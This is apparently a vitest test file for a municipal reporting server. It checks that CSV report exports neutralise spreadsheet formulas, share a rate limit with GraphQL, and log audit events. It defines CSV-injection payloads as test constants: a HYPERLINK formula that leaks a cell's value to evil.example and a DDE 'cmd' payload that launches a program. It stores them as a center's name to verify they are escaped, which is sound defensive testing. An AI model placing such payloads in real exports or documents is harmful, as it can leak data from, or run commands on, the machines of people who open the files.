import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createLogger, createRateLimits, loadConfig } from '@opora/server';
import { DEMO, TestApi, errorCodes, type GraphQLResponse } from '../support/api.ts';
import { sqlAsOwner } from '../support/sql.ts';
import { csvDocument } from '@opora/server/csv.ts';
import { currentYear } from '@opora/common/calendar';

// /reports/*.csv: safe to open in a spreadsheet (no cell runs as a formula), drawing on the same
// aggregate budget as GraphQL, and audited like GraphQL.

const YEAR = currentYear() - 1;
const PROFILE = `mutation($input: CenterProfileInput!) { updateCenterProfile(input: $input) { nameBg nameEn } }`;
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Отвори")';
const CALC = "-1+1+cmd|' /C calc'!A0";

function download(api: TestApi, path: string, token: string, language: 'bg' | 'en' = 'bg') {
  return fetch(`${api.url}${path}`, { headers: { authorization: `Bearer ${token}`, 'x-opora-language': language } });
}

/**
 * Until the municipal systems behind the analysis are decided (the first download of a cold
 * process answers 503 AGGREGATE_PREPARING while the workers decide them): the decisions are kept
 * in this process, so later servers of this file on the same demo data find them ready.
 */
async function untilPrepared(api: TestApi, token: string): Promise<void> {
  for (let i = 0; i < 200; i++) {
    const res = await download(api, `/reports/municipal-annual-analysis.csv?year=${YEAR}`, token);
    if (res.status !== 503) return;
    expect(((await res.json()) as GraphQLResponse).errors?.[0]?.extensions?.code).toBe('AGGREGATE_PREPARING');
  }
}

/** The CSV's cells, parsed the way a spreadsheet program reads RFC 4180. */
function cells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && body[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

describe('the CSV writer', () => {
  test('neutralises text that opens with a formula character; a number the code computed stays a number', () => {
    const text = csvDocument([
      [CALC, '=1+1', '+1', '@SUM(A1)', '\tx', '\rx', '－1', '-3', -3, 2.5, 'обикновен текст', 'a,"b"', ''],
    ]);
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(cells(text)).toEqual([[`'${CALC}`, "'=1+1", "'+1", "'@SUM(A1)", "'\tx", "'\rx", "'－1", "'-3", '-3', '2.5', 'обикновен текст', 'a,"b"', '']]);
  });
});

describe('CSV cells never run as formulas', () => {
  let api: TestApi;
  let viewer: string;
  beforeAll(async () => {
    api = await TestApi.start();
    const manager = await api.login(DEMO.kazanlakManager);
    const { center } = await api.ok(`{ center { nameBg nameEn providerNameBg providerNameEn address: addressBg addressEn licensedCapacity } }`, {}, manager);
    // The manager names the center as an attacker would, through the ordinary profile screen.
    const saved = await api.ok(
      PROFILE,
      {
        input: {
          nameBg: HYPERLINK,
          nameEn: CALC,
          providerNameBg: center.providerNameBg,
          providerNameEn: center.providerNameEn,
          addressBg: center.address,
          addressEn: center.addressEn,
          licensedCapacity: center.licensedCapacity,
        },
      },
      manager,
    );
    expect(saved.updateCenterProfile).toEqual({ nameBg: HYPERLINK, nameEn: CALC });
    viewer = await api.login(DEMO.kazanlakViewer);
    await untilPrepared(api, viewer);
    await untilPrepared(api, await api.login(DEMO.plovdivViewer));
  }, 600_000);
  afterAll(async () => {
    await api?.stop();
  });

  test.each(['bg', 'en'] as const)('the center’s name reaches the municipal analysis neutralised (%s)', async (language) => {
    const res = await download(api, `/reports/municipal-annual-analysis.csv?year=${YEAR}`, viewer, language);
    expect(res.status).toBe(200);
    const text = await res.text();
    const rows = cells(text);
    expect(rows.length).toBeGreaterThan(20);
    const name = language === 'bg' ? HYPERLINK : CALC;
    const named = rows.filter((r) => r.some((c) => c.includes(name)));
    expect(named.length).toBeGreaterThan(0);
    // The label cell holds the name with a leading apostrophe: text, never a formula.
    for (const r of named) expect(r).toContain(`'${name}`);
    expect(text).not.toMatch(/(^|,|\r\n)"?[=+\-@\t\r]/);
    // No text cell anywhere begins with a formula character; computed numbers stay numbers.
    for (const r of rows) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    const numbers = rows.slice(1).map((r) => r[4]!).filter((v) => v !== '');
    expect(numbers.length).toBeGreaterThan(0);
    for (const n of numbers) expect(n).toMatch(/^\d+(\.\d+)?$/);
  });
});

describe('/reports shares the aggregate budget and the audit of GraphQL', () => {
  let api: TestApi;
  let viewer: string;
  let other: string;
  const LIMIT = 3;
  beforeAll(async () => {
    // The limit as an operator sets it (OPORA_AGGREGATE_RATE_LIMIT), low enough to reach.
    const config = loadConfig({ OPORA_AGGREGATE_RATE_LIMIT: String(LIMIT) });
    const logger = createLogger('silent');
    api = await TestApi.start({
      rateLimits: createRateLimits({ logger, signIn: { points: 1000, durationS: 60 }, aggregate: { points: config.OPORA_AGGREGATE_RATE_LIMIT, durationS: 60 } }),
    });
    viewer = await api.login(DEMO.plovdivViewer);
    other = await api.login(DEMO.kazanlakViewer);
  });
  afterAll(async () => {
    await api?.stop();
  });

  test('downloads and GraphQL draw on one budget: 429 with Retry-After on both doors', async () => {
    const path = `/reports/municipal-annual-analysis.csv?year=${YEAR}`;
    const analysis = `query($year: Int!) { municipalAnnualAnalysis(year: $year) { year } }`;
    // Two downloads and one query spend the three points…
    expect((await download(api, path, viewer)).status).toBe(200);
    expect((await download(api, path, viewer)).status).toBe(200);
    expect((await api.post({ query: analysis, variables: { year: YEAR } }, { authorization: `Bearer ${viewer}` })).status).toBe(200);
    // …so GraphQL is refused because of the downloads,
    const graphql = await fetch(`${api.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: `Bearer ${viewer}` },
      body: JSON.stringify({ query: analysis, variables: { year: YEAR } }),
    });
    expect(graphql.status).toBe(429);
    expect(Number(graphql.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(errorCodes((await graphql.json()) as GraphQLResponse)).toEqual(['TOO_MANY_REQUESTS']);
    // …and so is the next download, with the same coded, bilingual answer.
    const refused = await download(api, path, viewer);
    expect(refused.status).toBe(429);
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
    const body = (await refused.json()) as GraphQLResponse & { errors: Array<{ extensions: Record<string, string> }> };
    expect(errorCodes(body)).toEqual(['TOO_MANY_REQUESTS']);
    expect(body.errors[0]!.extensions.messageBg).toMatch(/Твърде много заявки/);
    expect(body.errors[0]!.extensions.messageEn).toMatch(/Too many requests/);
    // A refused download is no export: two EXPORT events, not three.
    const [row] = await sqlAsOwner<{ n: number }>(
      api.db,
      `SELECT count(*)::int AS n FROM "AuditEvent" e JOIN "User" u ON u.id = e."userId" WHERE e.action = 'EXPORT' AND u.email = $1`,
      DEMO.plovdivViewer,
    );
    expect(row!.n).toBe(2);
    // The budget is per viewer: another municipality's viewer still downloads.
    expect((await download(api, `/reports/municipal-annual-analysis.csv?year=${YEAR}`, other)).status).toBe(200);
  });

  test('a download writes one EXPORT event naming the viewer, the report and the year', async () => {
    const res = await download(api, `/reports/municipal-annual-analysis.csv?year=${YEAR}`, other);
    expect(res.status).toBe(200);
    await res.text();
    const events = await sqlAsOwner<{ action: string; entityType: string; detail: Record<string, unknown>; requestId: string | null; membershipId: string | null }>(
      api.db,
      `SELECT e.action, e."entityType", e.detail, e."requestId", e."membershipId"::text AS "membershipId"
         FROM "AuditEvent" e JOIN "User" u ON u.id = e."userId"
        WHERE u.email = $1 AND e.action = 'EXPORT' ORDER BY e.id`,
      DEMO.kazanlakViewer,
    );
    expect(events.length).toBe(2);
    const last = events.at(-1)!;
    expect(last).toMatchObject({ action: 'EXPORT', entityType: 'MunicipalAnnualAnalysis', detail: { year: YEAR, municipality: expect.any(String) } });
    expect(last.requestId).toEqual(expect.any(String));
    expect(last.membershipId).toEqual(expect.any(String));
    expect(events[0]!.requestId).not.toBe(last.requestId);
  });
});
